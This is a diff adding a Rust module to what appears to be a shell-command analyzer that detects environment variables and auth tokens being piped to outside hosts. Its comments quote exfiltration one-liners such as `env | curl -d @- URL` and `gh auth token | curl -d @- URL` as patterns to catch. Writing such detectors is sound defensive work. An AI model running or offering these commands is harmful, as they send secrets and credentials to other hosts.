@@ -1,0 +1,129 @@
+//! The whole environment, and keys that a service gives out, on their way to another host: what prints them, and what
+//! sends what was printed.
+
+use super::effects::{Drafter, Ran, with_sources};
+use crate::model::effect::{Effect, EffectKind, Target};
+use crate::text::url;
+use reflex_shell::{Command, CommandId, Origin, Piece, Value, WHOLE_ENVIRONMENT};
+use std::collections::BTreeSet;
+
+impl Drafter<'_> {
+    /// `env | curl -d @- URL`, `curl -d "$(env)" URL`: as if a file with all variables were sent.
+    pub(super) fn environment_sent(&mut self, before: usize, commands: &[Command]) {
+        self.revealed_sent(before, commands);
+        let own = self.effects.get(before..).unwrap_or(&[]);
+        let prints = |effect: &&Effect| effect.kind == EffectKind::PrintEnvironment;
+        let printing: Vec<CommandId> = own.iter().filter(prints).filter_map(|effect| effect.command).collect();
+        if printing.is_empty() {
+            return;
+        }
+        let mut sending: Vec<CommandId> =
+            own.iter().filter(|effect| goes_out(effect)).filter_map(|effect| effect.command).collect();
+        sending.dedup();
+        let filled = filled(own, commands, &printing);
+        let sends_file = |effect: &Effect| {
+            effect.kind == EffectKind::SendFile
+                && effect.targets.iter().any(|target| filled.iter().any(|path| Some(path.as_str()) == target.path()))
+        };
+        let files: Vec<CommandId> =
+            own.iter().filter(|effect| sends_file(effect)).filter_map(|effect| effect.command).collect();
+        for id in sending {
+            let Some(command) = commands.get(id) else { continue };
+            if files.contains(&id) || carries(id, command, commands, &printing) {
+                let value = Value::text(WHOLE_ENVIRONMENT, Origin::default());
+                let target = self.target(EffectKind::SendFile, value, "/");
+                self.push_command(Ran { id, command, folder: None }, EffectKind::SendFile, vec![target]);
+            }
+        }
+    }
+}
+
+impl Drafter<'_> {
+    /// `export $(grep -v '^#' .env | xargs)`: what is read goes into variables, and is shown to nobody.
+    pub(super) fn kept_in_variables(&mut self, before: usize, commands: &[Command]) {
+        const DECLARING: [&str; 4] = ["export", "declare", "readonly", "typeset"];
+        // A text that declares more at once is none that a person writes.
+        const MOST: usize = 16;
+        let declaring = commands.iter().filter(|command| DECLARING.contains(&command.name.as_str()));
+        let pieces = declaring.flat_map(|command| command.words.iter()).flat_map(|word| &word.pieces);
+        let outputs = pieces.filter(|(piece, _)| matches!(piece, Piece::Output(_))).map(|(_, origin)| *origin);
+        let outputs: Vec<Origin> = outputs.take(MOST).collect();
+        if outputs.is_empty() {
+            return;
+        }
+        let mut keeping = BTreeSet::new();
+        for (id, command) in commands.iter().enumerate() {
+            if command.words.first().is_some_and(|word| outputs.contains(&word.origin())) {
+                keeping.insert(id);
+                keeping.extend(with_sources(command, commands));
+            }
+        }
+        let read = self.effects.iter_mut().skip(before).filter(|effect| effect.kind == EffectKind::Read);
+        read.filter(|effect| effect.command.is_some_and(|id| keeping.contains(&id)))
+            .for_each(|effect| effect.flags.push("kept"));
+    }
+
+    /// `gh auth token | curl -d @- URL`: what a pipeline leads to another host has the flag `sent`.
+    fn revealed_sent(&mut self, before: usize, commands: &[Command]) {
+        let own = self.effects.get_mut(before..).unwrap_or(&mut []);
+        if !own.iter().any(|effect| effect.kind == EffectKind::RevealSecret) {
+            return;
+        }
+        let sending = own.iter().filter(|effect| goes_out(effect)).filter_map(|effect| commands.get(effect.command?));
+        let read: BTreeSet<CommandId> = sending.flat_map(|command| with_sources(command, commands)).collect();
+        let revealed = own.iter_mut().filter(|effect| effect.kind == EffectKind::RevealSecret);
+        revealed
+            .filter(|effect| effect.command.is_some_and(|id| read.contains(&id)))
+            .for_each(|effect| effect.flags.push("sent"));
+    }
+}
+
+/// The files into which the commands print, or those behind them in a pipeline.
+fn filled(effects: &[Effect], commands: &[Command], printing: &[CommandId]) -> Vec<String> {
+    // A text in another language prints and writes by calls that stand beside each other.
+    let parents: Vec<CommandId> = printing
+        .iter()
+        .filter_map(|id| commands.get(*id))
+        .filter(|command| command.name.contains(':'))
+        .filter_map(|command| command.parent)
+        .collect();
+    let from_print = |id: CommandId| {
+        printing.contains(&id)
+            || commands.get(id).and_then(|command| command.parent).is_some_and(|parent| parents.contains(&parent))
+            || commands
+                .get(id)
+                .is_some_and(|command| with_sources(command, commands).iter().any(|id| printing.contains(id)))
+    };
+    let fills = |effect: &&Effect| {
+        matches!(effect.kind, EffectKind::Overwrite | EffectKind::Append) && effect.command.is_some_and(from_print)
+    };
+    effects
+        .iter()
+        .filter(fills)
+        .flat_map(|effect| &effect.targets)
+        .filter_map(Target::path)
+        .map(str::to_owned)
+        .collect()
+}
+
+/// Whether it reaches another host than this one.
+fn goes_out(effect: &Effect) -> bool {
+    let reaches =
+        matches!(effect.kind, EffectKind::Send | EffectKind::Fetch | EffectKind::Connect | EffectKind::UseHost);
+    let own = |target: &Target| {
+        let host = target.shown();
+        url::has(&host, "own") || host.starts_with("localhost") || host.starts_with("127.") || host.starts_with("::1")
+    };
+    reaches && !effect.targets.iter().all(own)
+}
+
+/// Whether what these commands print reaches the command: by its input, or by words that are not known before it runs.
+fn carries(id: CommandId, command: &Command, commands: &[Command], printing: &[CommandId]) -> bool {
+    let sources = with_sources(command, commands);
+    reflex_shell::work::spend(1 + (printing.len() * (1 + sources.len())) as u64 / 200);
+    let piped = printing.iter().any(|print| sources.contains(print) || *print == id);
+    let printed = |piece: &Piece| matches!(piece, Piece::Output(_) | Piece::Unknown(_));
+    let holds = |value: &Value| value.pieces.iter().any(|(piece, _)| printed(piece));
+    // What is printed by a command that stands before can be in the words.
+    piped || printing.iter().any(|print| *print < id) && command.words.iter().any(holds)
+}
